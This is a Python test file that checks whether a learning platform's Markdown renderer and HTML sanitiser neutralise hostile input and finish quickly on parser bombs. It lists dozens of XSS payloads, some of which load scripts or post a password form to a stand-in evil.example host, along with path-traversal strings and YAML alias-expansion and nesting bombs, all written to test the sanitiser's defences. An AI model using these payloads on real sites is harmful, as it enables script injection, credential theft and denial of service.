"""Hostile Markdown ends in a clear message or in harmless HTML, and within a moment.

The renderer is tried without the checker before it: a gate must hold by itself.
"""

import re
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest

from near_learn.content.draft import Prose
from near_learn.content.links import Links, ModulePlace
from near_learn.content.markup import Renderer
from near_learn.content.problem import Report
from near_learn.content.sanitising import ATTRIBUTES, TAGS, Sanitiser
from near_learn.content.source import LARGEST_FILE, MOST_SIGNS, Line
from tests.content.world import ENGLISH, FRONT, QUIZ, found, library

PLAN = Path(__file__).parent / "examples" / "garden" / "01-first-visit" / "media" / "plan.svg"
GENEROUS = 10  # seconds of this process; the slowest takes about one

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script href='data:,alert(1)'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<form action=//evil.example><input name=password></form>",
    "<input id=csrf_token name=csrf_token>",
    "<a id=location href=x>x</a>",
    "<a name=submit>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](java\\script:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](blob:https://example.org/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](https:evil.example)",
    "[x](https://[evil)",
    '[x](https://example.org "onmouseover=alert(1)")',
    '[x](https://example.org "\'><img src=x onerror=alert(1)>")',
    "<javascript:alert(1)>",
    "<javascript://example.org/%0aalert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](https://evil.example/pixel.png)",
    "![x](media/../../secret.png)",
    "![x](media/%2e%2e/%2e%2e/secret.png)",
    '![" onerror="alert(1)](media/plan.svg)',
    '![x](media/plan.svg "\' onerror=alert(1)")',
    "![x\\](media/plan.svg)",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    '!!! case" onclick="alert(1) "x"\n    y',
    '!!! case onclick style "x"\n    y',
    '!!! case "<img src=x onerror=alert(1)>"\n    <script>alert(1)</script>',
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "| a |\n|:-:onclick|\n| b |",
    "### x {#location}",
    '### x {#x" onclick="alert(1)}',
    "### x {: onclick=alert(1) style=color:red }",
    "[x](https://example.org){: onclick=alert(1) }",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    "\x02klzzwxh:0000\x03 \x02wzxhzdk:0\x03 \x02amp\x03#106;avascript",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "https://example.org/<script>alert(1)</script>",
    'http://example.org/"onmouseover=alert(1)',
    "www.example.org/'onmouseover=alert(1)",
    'a@b.c"onmouseover=alert(1)',
    '<a@b.c"onmouseover=alert(1)>',
]


class Reader(HTMLParser):
    """Collects every tag and attribute a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, "", ""))
        self.seen += [(tag, name, value or "") for name, value in attrs]


def assert_harmless(html: str) -> None:
    """Only known tags, known attributes, addresses of known kinds, and ids that no script uses."""
    reader = Reader()
    reader.feed(html)
    reader.close()
    for tag, name, value in reader.seen:
        assert tag in TAGS
        assert not name or name in ATTRIBUTES[tag]
        if name == "href":
            assert re.match(r"https?://\w|mailto:|tel:|#s-|/courses/", value), value
        if name == "src":
            assert value.startswith("/courses/c/m/media/")
        if name == "id":
            assert value.startswith("s-")
    assert "<!" not in html
    assert "<?" not in html


def renderer() -> Renderer:
    """A renderer as a module has it."""
    place = ModulePlace("m", {"text": "text"}, frozenset(), frozenset({"en"}))
    made = Renderer(Links("c", "01-one", {"01-one": place}, {"plan.svg": PLAN}))
    made.report = Report("en.md")
    made.begin("text", 'A "title" <b>')
    return made


@pytest.mark.parametrize("text", HOSTILE)
def test_the_renderer_makes_nothing_of_it(text: str) -> None:
    lines = Prose([Line(number, line) for number, line in enumerate(text.split("\n"), 1)])
    assert_harmless(renderer().block(lines))
    assert_harmless(renderer().inline(lines))


@pytest.mark.parametrize("text", ["<b>bold</b>", "<div>\n\n*text*\n\n</div>", "<!-- a remark -->"])
def test_html_is_shown_as_it_was_written(text: str) -> None:
    html = renderer().block(Prose([Line(number, line) for number, line in enumerate(text.split("\n"), 1)]))
    assert html.startswith("<p>&lt;")
    assert html.endswith("&gt;</p>")


@pytest.mark.parametrize("text", HOSTILE)
def test_the_sanitiser_lets_none_of_it_through(text: str) -> None:
    reader = Reader()
    html = Sanitiser().clean(text)
    reader.feed(html)
    for tag, name, value in reader.seen:
        assert tag in TAGS
        assert not name or (
            name in ATTRIBUTES[tag] and not value.lower().strip().startswith(("java", "data", "vb"))
        )


@pytest.mark.parametrize("text", HOSTILE)
def test_learners_get_a_module_without_it_or_none(text: str, tmp_path: Path) -> None:
    loaded = library(tmp_path, en=f"{FRONT}\n## Text {{#text}}\n\n{text}{QUIZ}")
    modules = {module.id: module for module in loaded.courses["c"].modules}
    assert "m" in modules or found(loaded)
    if "m" in modules:
        assert_harmless(modules["m"].text("en").section("text").html)


BOMBS = {
    "brackets": "[" * MOST_SIGNS,
    "paragraphs of brackets": ("[" * 590 + "\n\n") * 16,
    "images": ("![" * 290 + "\n\n") * 16,
    "links in links": ("[[a](b)](" * 90 + "\n\n") * 12,
    "emphasis": "*a_ " * 4000,
    "stars": ("*" * 590 + "\n\n") * 16,
    "nested emphasis": ("***a" * 150 + "\n\n") * 16,
    "backticks": "``a` " * 4000,
    "backslashes": "\\" * LARGEST_FILE,
    "ampersands": "&" * LARGEST_FILE,
    "less-than signs": "<" * LARGEST_FILE,
    "comments": "<!--" * 30_000,
    "quotations": "> " * 2000,
    "lists in lists": "- " * 2000,
    "numbered lists in lists": "1. " * 1500 + "a",
    "deep indents": "\n".join(" " * (4 * depth) + "- a" for depth in range(500)),
    "boxes in boxes": "\n".join(" " * (4 * depth) + '!!! tip "a"' for depth in range(200)),
    "tables": "| a | b |\n|---|---|\n" * 4000,
    "a wide table": "a|" * 3000 + "\n" + "-|" * 3000,
    "fences": "```\n" * 30_000,
    "rules": "---\n" * 30_000,
    "headings": "### a {#a}\n\n" * 9000,
    "options": "### a {#a}\n\n" + "- [ ] a\n" * 12_000,
    "questions": "### a {#a}\n\n- [ ] a\n- [x] b\n\n" * 2000,
    "a heading's braces": "### " + "{#" * 2000,
    "spaces": "a" + " " * 4900 + "b\n\n" + ("a" + " " * 4900 + "\n\n") * 20,
    "addresses": "http://a" * 15_000,
    "mail addresses": ("a@" * 290 + "\n\n") * 200,
    "entities": "&#1" * 30_000,
    "one word": "a" * LARGEST_FILE,
    "ten megabytes": "word " * 2_000_000,
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_is_over_in_a_moment(name: str, tmp_path: Path) -> None:
    start = time.process_time()
    library(tmp_path, en=f"{FRONT}\n## Text {{#text}}\n\n{BOMBS[name]}{QUIZ}")
    assert time.process_time() - start < GENEROUS


FRONT_BOMBS = {
    "aliases": "a: &a [x]\n" + "".join(f"k{n}: &k{n} [*a, *a, *a, *a]\n" for n in range(1000)),
    "brackets": "id: " + "[" * 20_000,
    "braces": "id: " + "{a: " * 5000,
    "indents": "\n".join(" " * depth + "a:" for depth in range(180)),
    "keys": "\n".join(f"k{n}: v" for n in range(3000)),
    "hyphens": "id: \n" + "- " * 10_000,
    "quotation marks": 'id: "' + '\\"' * 15_000,
    "a long key": "k" * 30_000 + ": v",
    "too large": "summary: " + "word " * 7000,
}


@pytest.mark.parametrize("name", FRONT_BOMBS)
def test_a_bomb_in_the_front_matter_is_over_in_a_moment(name: str, tmp_path: Path) -> None:
    start = time.process_time()
    loaded = library(tmp_path, en=f"---\n{FRONT_BOMBS[name]}\n---\n\n## Text {{#text}}\n\nText.{QUIZ}")
    assert time.process_time() - start < GENEROUS
    assert loaded.errors
    assert [module.id for module in loaded.courses["c"].modules] == ["other"]


def test_text_nested_beyond_the_interpreter_is_a_problem_and_no_crash() -> None:
    made = renderer()
    html = made.block(Prose([Line(3, "> " * 3000 + "a")]))
    assert html == "" or "blockquote" in html
    assert html or [str(problem) for problem in made.report.problems] == [
        "en.md:3: the text is nested too deeply; make it simpler"
    ]


def test_a_file_with_very_many_problems_says_the_first_hundred(tmp_path: Path) -> None:
    loaded = library(tmp_path, en=ENGLISH.replace("Text.", "[a](#gone)\n\n" * 500))
    assert len(loaded.problems) == 101
    assert loaded.problems[-1].message == "there are more problems from here on; mend those above first"
